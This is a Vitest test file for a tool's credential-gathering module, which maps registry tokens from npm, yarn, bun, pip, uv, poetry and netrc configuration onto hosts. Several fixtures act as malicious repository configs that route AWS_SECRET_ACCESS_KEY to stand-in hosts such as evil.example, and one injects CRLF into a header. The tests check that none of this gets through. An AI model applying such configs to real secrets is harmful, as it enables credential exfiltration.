import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { measureGrowth, nearlyLinear } from '../../test/support/growth.ts';
import { type Files, memorySource } from '../../test/support/memory-source.ts';
import { gatherCredentials, type Ring } from './credentials.ts';

const folders: string[] = [];
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function makeHome(files: Readonly<Record<string, string>>): string {
  const home = mkdtempSync(join(tmpdir(), 'gazetteer-home-'));
  folders.push(home);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(home, path)), { recursive: true });
    writeFileSync(join(home, path), text);
  }
  return home;
}

const gather = (files: Files, ring: Partial<Ring> = {}) =>
  gatherCredentials({
    env: {},
    tree: memorySource(files, files).policy,
    configPath: undefined,
    asked: () => true,
    asksOthers: true,
    ...ring,
  });

const env = { USER: 'ada', TOKEN: 't0k3n', EMPTY: '', CODED: Buffer.from('pa:ss').toString('base64') };
const basic = (pair: string) => `Basic ${Buffer.from(pair).toString('base64')}`;

describe('files of the base side, in a workflow', () => {
  it.each<[string, string, string, string, string | undefined]>([
    ['.npmrc', `//npm.acme.example/:_authToken=\${TOKEN}`, 'a', 'https://npm.acme.example/left-pad', 'Bearer t0k3n'],
    ['.npmrc', '//npm.acme.example/:_authToken=literal', 'b', 'https://npm.acme.example/x', 'Bearer literal'],
    ['.npmrc', `//npm.acme.example/a/:_authToken=\${TOKEN}`, 'below', 'https://npm.acme.example/a/x', 'Bearer t0k3n'],
    ['.npmrc', `//npm.acme.example/a/:_authToken=\${TOKEN}`, 'beside', 'https://npm.acme.example/ab/x', undefined],
    ['.npmrc', `//npm.acme.example/a/:_authToken=\${TOKEN}`, 'up', 'https://npm.acme.example/a/../b', undefined],
    ['.npmrc', `//npm.acme.example/:_auth=\${CODED}`, 'auth', 'https://npm.acme.example/x', basic('pa:ss')],
    [
      '.npmrc',
      `//npm.acme.example/:username=\${USER}\n//npm.acme.example/:_password=\${CODED}`,
      'pair',
      'https://npm.acme.example/x',
      basic('ada:pa:ss'),
    ],
    ['.npmrc', `//npm.acme.example/:_authToken=\${TOKEN}`, 'port', 'https://npm.acme.example:8443/x', undefined],
    ['.npmrc', `//npm.acme.example/:_authToken=\${TOKEN}`, 'plain http', 'http://npm.acme.example/x', undefined],
    ['.npmrc', `//npm.acme.example/:_authToken=\${TOKEN}`, 'below the host', 'https://x.npm.acme.example/x', undefined],
    ['.npmrc', `//127.0.0.1:4873/:_authToken=\${TOKEN}`, 'loopback', 'http://127.0.0.1:4873/x', 'Bearer t0k3n'],
    [
      '.npmrc',
      `//npm.acme.example/:_authToken=\${NONE-other}`,
      'default',
      'https://npm.acme.example/x',
      'Bearer other',
    ],
    ['.npmrc', `//npm.acme.example/:_authToken=\${EMPTY:-o}`, 'default 2', 'https://npm.acme.example/x', 'Bearer o'],
    ['.npmrc', `//npm.acme.example/:_authToken=\${NONE?}`, 'optional', 'https://npm.acme.example/x', undefined],
    [
      '.npmrc',
      `//npm.acme.example/:_authToken=\${TOKEN.x}`,
      'no variable',
      'https://npm.acme.example/x',
      `Bearer \${TOKEN.x}`,
    ],
    ['.npmrc', `//npm.acme.example/:_authToken=\${__proto__}`, 'prototype', 'https://npm.acme.example/x', undefined],
    ['.npmrc', `//\${TOKEN}.acme.example/:_authToken=x`, 'host', 'https://t0k3n.acme.example/x', undefined],
    ['.npmrc', `[x]\n//npm.acme.example/:_authToken=x`, 'section', 'https://npm.acme.example/x', undefined],
    ['sub/.npmrc', `//npm.acme.example/:_authToken=x`, 'folder', 'https://npm.acme.example/x', 'Bearer x'],
    ['node_modules/.npmrc', `//npm.acme.example/:_authToken=x`, 'vendored', 'https://npm.acme.example/x', undefined],
    [
      '.yarnrc.yml',
      `npmScopes:\n  acme:\n    npmRegistryServer: https://y.acme.example/npm\n    npmAuthToken: "\${TOKEN-}"\n`,
      'scope',
      'https://y.acme.example/npm/x',
      'Bearer t0k3n',
    ],
    ['.yarnrc.yml', 'npmAuthIdent: "ada:pw"\n', 'root', 'https://registry.npmjs.org/x', basic('ada:pw')],
    [
      '.yarnrc.yml',
      `npmRegistries:\n  "//y.acme.example":\n    npmAuthIdent: YWRhOnB3\n`,
      'registries',
      'https://y.acme.example/x',
      basic('ada:pw'),
    ],
    [
      'bunfig.toml',
      '[install.scopes]\nacme = { url = "https://b.acme.example/", token = "$TOKEN" }\n',
      'table',
      'https://b.acme.example/x',
      'Bearer t0k3n',
    ],
    [
      'bunfig.toml',
      '[install]\nregistry = "https://ada:$TOKEN@b.acme.example/"\n',
      'text',
      'https://b.acme.example/x',
      basic('ada:t0k3n'),
    ],
    [
      'pip.conf',
      `[global]\nindex-url = https://\${USER}:\${TOKEN}@p.acme.example/simple\n`,
      'pip',
      'https://p.acme.example/simple/six/',
      basic('ada:t0k3n'),
    ],
    [
      'requirements/dev.txt',
      `--extra-index-url https://\${TOKEN}@p.acme.example/py/simple/\n`,
      'json api',
      'https://p.acme.example/py/pypi/six/json',
      basic('t0k3n:'),
    ],
    ['requirements.txt', '# -i https://u:p@p.acme.example/simple', 'comment', 'https://p.acme.example/', undefined],
    [
      'requirements.txt',
      '-i https://u:p%40q@p.acme.example/simple',
      'encoded',
      'https://p.acme.example/simple/x/',
      basic('u:p@q'),
    ],
    [
      'pyproject.toml',
      `[[tool.poetry.source]]\nname = "acme"\nurl = "https://__token__:\${NONE:-a:b}@q.acme.example/simple/"\n`,
      'colon in a default',
      'https://q.acme.example/simple/x/',
      basic('__token__:a:b'),
    ],
  ])('%s: %s (%s)', async (path, text, _case, url, expected) => {
    const { header } = await gather({ [path]: text }, { env });
    expect(header(new URL(url))).toBe(expected);
  });

  it('reads the addresses of the configuration', async () => {
    const text = `registries: { pypi: "https://\${USER}:\${TOKEN}@q.acme.example/simple" }\n`;
    const { header } = await gather({ '.github/gazetteer.yml': text }, { env, configPath: '.github/gazetteer.yml' });
    expect(header(new URL('https://q.acme.example/simple/x/'))).toBe(basic('ada:t0k3n'));
  });

  it('takes the most exact place', async () => {
    const text = '//npm.acme.example/:_authToken=wide\n//npm.acme.example/a/:_authToken=exact\n';
    const { header } = await gather({ '.npmrc': text });
    expect(header(new URL('https://npm.acme.example/a/x'))).toBe('Bearer exact');
    expect(header(new URL('https://npm.acme.example/b'))).toBe('Bearer wide');
  });

  it.each([
    ['UV_INDEX', '[[tool.uv.index]]'],
    ['POETRY_HTTP_BASIC', '[[tool.poetry.source]]'],
  ])('finds by the name of an index what the environment holds for it (%s)', async (prefix, table) => {
    const files = { 'pyproject.toml': `${table}\nname = "acme-py"\nurl = "https://q.acme.example/simple"\n` };
    const named = { [`${prefix}_ACME_PY_USERNAME`]: 'ada', [`${prefix}_ACME_PY_PASSWORD`]: 'pw' };
    const { header } = await gather(files, { env: named });
    expect(header(new URL('https://q.acme.example/simple/x/'))).toBe(basic('ada:pw'));
  });

  it('says which variable is missing, and sends nothing that no header may hold', async () => {
    const text = `//npm.acme.example/:_authToken=\${EMPTY}\n//odd.acme.example/:_authToken=\${ODD}\n`;
    const { header, notes } = await gather({ '.npmrc': text }, { env: { EMPTY: '', ODD: 'a\r\nx-evil: 1' } });
    expect(notes).toEqual(['Credentials for npm.acme.example were not sent: EMPTY is not set.']);
    for (const host of ['npm', 'odd']) expect(header(new URL(`https://${host}.acme.example/`))).toBeUndefined();
  });

  it('says nothing of hosts that are not asked, nor of the public ones', async () => {
    const text = `//npm.acme.example/:_authToken=\${NONE}\n//registry.npmjs.org/:_authToken=\${NONE}\n`;
    const { notes } = await gather({ '.npmrc': text }, { asked: (url) => url.includes('registry.npmjs.org') });
    expect(notes).toEqual([]);
  });

  it('does not read the files of the runner', async () => {
    const HOME = makeHome({ '.npmrc': '//npm.acme.example/:_authToken=mine' });
    const { header } = await gather({}, { env: { HOME } });
    expect(header(new URL('https://npm.acme.example/x'))).toBeUndefined();
  });

  it.each(['.npmrc', '.yarnrc.yml', 'bunfig.toml', 'pyproject.toml', 'pip.conf'])(
    'survives a %s of any bytes, in linear time',
    async (path) => {
      const write = (size: number) => `${'https://'.repeat(size / 4)}${'${'.repeat(size)}\u0000\n[[[\n- : {`;
      const read = async (text: string) => expect(await gather({ [path]: text }, { env })).toMatchObject({ notes: [] });
      expect(await measureGrowth(write, read, 20_000)).toBeLessThan(nearlyLinear);
    },
  );
});

describe('on the command line', () => {
  const evil = {
    '.npmrc': `//evil.example/:_authToken=\${AWS_SECRET_ACCESS_KEY}\n`,
    'pip.conf': `[global]\nindex-url = https://u:\${AWS_SECRET_ACCESS_KEY}@evil2.example/simple\n`,
    'pyproject.toml': '[[tool.uv.index]]\nname = "acme"\nurl = "https://evil3.example/simple"\n',
    'bunfig.toml': '[install]\nregistry = { url = "https://evil4.example/", token = "$AWS_SECRET_ACCESS_KEY" }\n',
    '.github/gazetteer.yml': `trusted-registries: ["https://\${AWS_SECRET_ACCESS_KEY}@evil5.example/"]\n`,
  };
  const secrets = { AWS_SECRET_ACCESS_KEY: 'S3CRET', UV_INDEX_ACME_PASSWORD: 'S3CRET' };

  it('sends no variable to hosts that only the repository names, and says so without values', async () => {
    const ring = { env: secrets, home: makeHome({}), configPath: '.github/gazetteer.yml' };
    const { header, notes } = await gather(evil, ring);
    for (const host of ['evil', 'evil2', 'evil3', 'evil4', 'evil5']) {
      expect(header(new URL(`https://${host}.example/simple/x`))).toBeUndefined();
      expect(notes.filter((note) => note.includes(`for ${host}.example were not sent`))).toHaveLength(1);
    }
    expect(notes.join()).not.toContain('S3CRET');
    expect(notes[0]).toContain('AWS_SECRET_ACCESS_KEY stands for a variable');
  });

  it.each<[string, Record<string, string>, Record<string, string>]>([
    ['a variable', { NPM_CONFIG_REGISTRY: 'https://evil.example/' }, {}],
    ['npm’s own settings', {}, { '.npmrc': 'registry=https://evil.example/\n' }],
    ['a scope of them', {}, { '.npmrc': '@acme:registry=https://evil.example/\n' }],
    ['pip’s', {}, { '.config/pip/pip.conf': '[global]\nindex-url = https://evil.example/simple\n' }],
    ['netrc, without a password for it', {}, { '.netrc': 'machine evil.example\n' }],
  ])('sends it where %s name the host too', async (_case, more, files) => {
    const { header, notes } = await gather(evil, { env: { ...secrets, ...more }, home: makeHome(files) });
    expect(header(new URL('https://evil.example/x'))).toBe('Bearer S3CRET');
    expect(header(new URL('https://evil2.example/simple/x'))).toBeUndefined();
    expect(notes.join()).not.toContain('for evil.example');
  });

  it('sends it where a file given by --config names the host', async () => {
    const home = makeHome({ 'mine.yml': 'trusted-registries: ["https://evil.example/"]\n# https://evil2.example/\n' });
    const { header } = await gather(evil, { env: secrets, home, config: join(home, 'mine.yml') });
    expect(header(new URL('https://evil.example/x'))).toBe('Bearer S3CRET');
    expect(header(new URL('https://evil2.example/simple/x'))).toBeUndefined();
  });

  it('sends it to the public default', async () => {
    const files = { '.npmrc': `//registry.npmjs.org/:_authToken=\${TOKEN}` };
    const { header } = await gather(files, { env, home: makeHome({}) });
    expect(header(new URL('https://registry.npmjs.org/@acme%2fx'))).toBe('Bearer t0k3n');
  });

  it.each<[string, Record<string, string>, Record<string, string>, string]>([
    ['pip', { PIP_EXTRA_INDEX_URL: 'https://a.example/ https://u:p@q.acme.example/simple' }, {}, basic('u:p')],
    ['uv', { UV_INDEX: 'acme=https://u:p@q.acme.example/simple' }, {}, basic('u:p')],
    [
      'uv by name',
      { UV_INDEX: 'acme=https://q.acme.example/simple', UV_INDEX_ACME_USERNAME: 'u', UV_INDEX_ACME_PASSWORD: 'p' },
      {},
      basic('u:p'),
    ],
    ['npm', { 'npm_config_//q.acme.example/:_authToken': 'tok' }, {}, 'Bearer tok'],
    ['yarn', { YARN_NPM_REGISTRY_SERVER: 'https://q.acme.example', YARN_NPM_AUTH_TOKEN: 'tok' }, {}, 'Bearer tok'],
    [
      'netrc',
      {},
      { '.netrc': '# x\nmachine other.example login a password b\nmachine q.acme.example\n login u\n password p\n' },
      basic('u:p'),
    ],
    [
      'its own file',
      { NPM_CONFIG_USERCONFIG: 'FOLDER/rc', TOK: 'x' },
      { rc: `//q.acme.example/:_authToken=\${TOK}` },
      'Bearer x',
    ],
  ])('reads what %s holds', async (_case, variables, files, expected) => {
    const home = makeHome(files);
    const filled = Object.fromEntries(Object.entries(variables).map(([k, v]) => [k, v.replace('FOLDER', home)]));
    const { header } = await gather({}, { env: filled, home });
    expect(header(new URL('https://q.acme.example/simple/x/'))).toBe(expected);
    expect(header(new URL('https://elsewhere.example/'))).toBeUndefined();
  });

  it('takes nothing from netrc for hosts that it does not name', async () => {
    const home = makeHome({ '.netrc': 'default login u password p\nmachine q.acme.example login u password p\n' });
    expect((await gather({}, { home })).header(new URL('https://any.example/'))).toBeUndefined();
  });

  it('knows no token without its address', async () => {
    const { header } = await gather({}, { env: { YARN_NPM_AUTH_TOKEN: 't', NPM_TOKEN: 't' }, home: makeHome({}) });
    expect(header(new URL('https://registry.npmjs.org/x'))).toBeUndefined();
  });

  it('lets the user’s own word count before the repository’s', async () => {
    const files = { '.npmrc': '//npm.acme.example/:_authToken=theirs' };
    const home = makeHome({ '.npmrc': '//npm.acme.example/:_authToken=mine' });
    expect((await gather(files, { home })).header(new URL('https://npm.acme.example/x'))).toBe('Bearer mine');
  });
});

it('reads nothing where nobody is asked', async () => {
  const { header } = await gather({}, { tree: undefined, env: { PIP_INDEX_URL: 'https://u:p@q.example/' } });
  expect(header(new URL('https://q.example/'))).toBeUndefined();
});
